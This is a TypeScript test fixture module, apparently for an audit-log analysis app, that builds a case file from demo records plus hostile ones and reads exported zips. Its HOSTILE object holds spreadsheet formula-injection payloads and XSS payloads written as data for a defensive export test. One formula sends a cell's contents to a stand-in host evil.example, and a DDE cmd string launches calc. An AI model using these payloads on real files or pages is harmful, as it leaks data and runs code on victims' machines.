import fs from 'node:fs';
import path from 'node:path';
import yauzl from 'yauzl';
import { createBackend, type Backend } from '../../electron/backend/backend.js';
import { generateDemo } from '../../electron/backend/demo/generate.js';

/**
 * A real case for pack tests: demo records plus hostile ones (formula and script payloads, a rate-limited event,
 * quotes and line breaks), one duplicate and one unparseable line, imported through the real worker pipeline.
 */

export const PERIOD = { from: '2026-06-01T00:00:00.000Z', to: '2026-07-01T00:00:00.000Z' };

export const HOSTILE = {
  actor: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  action: '@SUM(1+1)*cmd|"/C calc"!A0',
  target: '+1-2',
  summary: '<script>alert("pwned")</script> & <img src=x onerror=alert(1)>',
};

function hostileRecords(): object[] {
  const base = {
    actorType: 'user', category: 'authentication', targetType: 'user', outcome: 'failure', severity: 'critical',
    sourceIp: '198.51.100.7', userAgent: 'curl/8.0', location: 'Nowhere', sessionId: null,
  };
  return [
    { ...base, id: 'evil-1', timestamp: '2026-06-20T10:00:00.000Z', ...HOSTILE },
    { ...base, id: 'evil-2', timestamp: '2026-06-20T10:00:01.000Z', actor: '-2+3', action: 'LOGIN_FAILURE', target: '\tTAB',
      summary: 'quote " comma , line\nbreak ünïcödé 🚀' },
    { ...base, id: 'rl-1', timestamp: '2026-06-21T09:00:00.000Z', actor: 'bot@example.com', action: 'RATE_LIMITED',
      category: 'other', severity: 'warning', summary: 'request blocked: rate limit exceeded for bot@example.com' },
  ];
}

export async function writeFixture(dir: string, events = 1500): Promise<string> {
  const lines = [...generateDemo({ events, seed: 7, end: new Date(PERIOD.to) })].map((r) => JSON.stringify(r));
  const hostile = hostileRecords().map((r) => JSON.stringify(r));
  const file = path.join(dir, 'audit.jsonl');
  // The first hostile record twice (a duplicate) and one line that is not JSON (a reject).
  fs.writeFileSync(file, [...lines, ...hostile, hostile[0], '{"broken": '].join('\n') + '\n');
  return file;
}

export async function importFile(backend: Backend, file: string): Promise<void> {
  const { done } = backend.context.jobs.startImport(backend.context.caseFile, { paths: [file], source: 'fixture' });
  const job = await done;
  if (job.status !== 'completed') throw new Error(`fixture import ${job.status}: ${job.error}`);
}

/** A case file with the fixture imported; returns the open backend (close it) and the fixture path. */
export async function makePackCase(dir: string, events = 1500): Promise<{ backend: Backend; fixture: string }> {
  const fixture = await writeFixture(dir, events);
  const backend = createBackend({ caseFile: path.join(dir, 'case.auditlens') });
  await importFile(backend, fixture);
  return { backend, fixture };
}

/** Every entry of a zip, read with yauzl (an independent reader), in central-directory order. */
export function readZip(file: string): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.open(file, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err);
      const out = new Map<string, Buffer>();
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (e, stream) => {
          if (e || !stream) return reject(e);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => {
            out.set(entry.fileName, Buffer.concat(chunks));
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => resolve(out));
      zip.on('error', reject);
      zip.readEntry();
    });
  });
}

export function python3(): string | null {
  for (const candidate of ['/usr/bin/python3', '/usr/local/bin/python3']) if (fs.existsSync(candidate)) return candidate;
  const fromPath = (process.env.PATH ?? '').split(path.delimiter).map((d) => path.join(d, 'python3')).find((p) => fs.existsSync(p));
  return fromPath ?? null;
}
